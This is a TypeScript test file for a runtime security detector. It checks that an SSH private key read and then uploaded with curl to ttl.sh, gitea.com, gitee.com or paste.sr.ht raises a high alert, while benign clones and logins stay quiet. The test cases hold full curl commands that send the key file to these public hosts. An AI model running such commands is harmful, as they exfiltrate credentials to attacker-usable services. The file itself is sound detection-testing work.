/**
 * Forges and registries the default destination classes lacked (red-team review): ttl.sh takes anonymous pushes
 * that expire in hours (no login, no credential to steal first: an attacker's first choice for an image),
 * gitea.com is Gitea's own public forge, gitee.com Gitee's (its gists too) and paste.sr.ht SourceHut's pastes. A
 * credential uploaded to any of them by curl raised nothing (a few KiB, far under the egress threshold, to an
 * unclassed host). Checked as exported Tetragon and Falco JSON lines through the
 * real scan path; kept out of the scenario library (the bench's workload).
 */
import { describe, expect, it } from 'vitest';
import type { SensorForm } from '../../src/scenarios/index.js';
import { briefOf, inlineScenario, runInlineScenario } from './harness.js';

const KEY = '/home/app/.ssh/id_ed25519';
const DNS = {
  'ttl.sh': '172.67.183.2',
  'gitea.com': '20.205.243.166',
  'gitee.com': '180.76.198.225',
  'paste.sr.ht': '46.23.81.157',
};

/** A clone of a public mirror after the job read its deploy key: a download, whatever it sends. */
async function cloneAlerts(url: string, host: string, form: SensorForm) {
  const s = inlineScenario(`git-clone-${host}`, DNS, [
    { at: '1s', exec: { id: 'git', parent: 'app', binary: '/usr/bin/git', args: `clone --depth 1 ${url} /src` } },
    { after: '2ms', read: { proc: 'git', path: KEY, bytes: 411 } },
    {
      after: '5ms',
      exec: { id: 'helper', parent: 'git', binary: '/usr/lib/git-core/git-remote-https', args: `origin ${url}` },
    },
    { after: '5ms', upload: { proc: 'helper', to: `${host}:443`, bytes: '24KiB', over: '900ms' } },
    { after: '10ms', exit: { proc: 'helper' } },
    { after: '5ms', exit: { proc: 'git' } },
  ]);
  return (await runInlineScenario(s, form)).alerts.map(briefOf);
}

async function alertsOf(name: string, args: string, to: string, form: SensorForm) {
  const s = inlineScenario(name, DNS, [
    { at: '1s', exec: { id: 'up', parent: 'app', binary: '/usr/bin/curl', args, uid: 1000 } },
    { after: '3ms', read: { proc: 'up', path: KEY, bytes: 411 } },
    { after: '5ms', upload: { proc: 'up', to: `${to}:443`, bytes: '2KiB', over: '300ms' } },
    { after: '10ms', exit: { proc: 'up' } },
  ]);
  return (await runInlineScenario(s, form)).alerts.map(briefOf);
}

describe('default destination classes', () => {
  for (const form of ['tetragon', 'falco'] as const) {
    it(`a blob uploaded to ttl.sh is high (${form})`, async () => {
      const args = `-X PUT --data-binary @${KEY} "https://ttl.sh/v2/a1b2c3/blobs/uploads/u?digest=sha256:ab"`;
      expect(await alertsOf('curl-ttl-sh-blob', args, 'ttl.sh', form)).toEqual([
        { rule: 'sensitive-read-then-push', severity: 'high', tool: 'curl', destination: 'ttl.sh' },
      ]);
    });

    it(`a file committed through gitea.com's API is high (${form})`, async () => {
      const args = `-X POST -d @${KEY} https://gitea.com/api/v1/repos/evil/x/contents/k`;
      expect(await alertsOf('curl-gitea-contents', args, 'gitea.com', form)).toEqual([
        { rule: 'sensitive-read-then-push', severity: 'high', tool: 'curl', destination: 'gitea.com' },
      ]);
    });

    it(`a gist created through gitee.com's API, or a paste on paste.sr.ht, is high (${form})`, async () => {
      const gist = `-X POST -F files=@${KEY} https://gitee.com/api/v5/gists`;
      expect(await alertsOf('curl-gitee-gist', gist, 'gitee.com', form)).toEqual([
        { rule: 'sensitive-read-then-push', severity: 'high', tool: 'curl', destination: 'gitee.com' },
      ]);
      const paste = `-F operations=@/tmp/op.json -F 0=@${KEY} https://paste.sr.ht/query`;
      expect(await alertsOf('curl-sr-ht-paste', paste, 'paste.sr.ht', form)).toEqual([
        { rule: 'sensitive-read-then-push', severity: 'high', tool: 'curl', destination: 'paste.sr.ht' },
      ]);
    });

    it(`a clone from gitee.com, and a sign-in form posted there, are quiet (${form})`, async () => {
      expect(await cloneAlerts('https://gitee.com/mirrors/zlib.git', 'gitee.com', form)).toEqual([]);
      expect(
        await alertsOf('curl-gitee-login', '-X POST -d user=bot https://gitee.com/login', 'gitee.com', form),
      ).toEqual([]);
    });

    it(`a sign-in form posted to gitea.com is quiet (${form})`, async () => {
      const args = '-X POST -d user_name=bot https://gitea.com/user/login';
      expect(await alertsOf('curl-gitea-login', args, 'gitea.com', form)).toEqual([]);
    });
  }
});
